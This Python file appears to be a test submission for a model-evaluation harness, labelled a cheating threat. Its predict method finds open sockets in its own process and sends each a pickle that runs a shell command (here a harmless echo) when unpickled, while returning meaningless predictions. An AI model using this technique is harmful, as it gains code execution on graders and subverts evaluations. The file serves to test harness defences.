"""Cheating, threat 23: answers with a pickle, which would run a command where it is read."""

import os
import pickle
import socket
import stat


class Command:
    def __reduce__(self):
        return os.system, ("echo CHEATED >&2",)


class Model:
    def __init__(self, submission_dir, device):
        pass

    def predict(self, batch):
        for descriptor in map(int, os.listdir("/proc/self/fd")):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    socket.socket(fileno=os.dup(descriptor)).send(pickle.dumps(Command()))
            except OSError:
                pass
        return batch["aerial"][:, 0] % 13
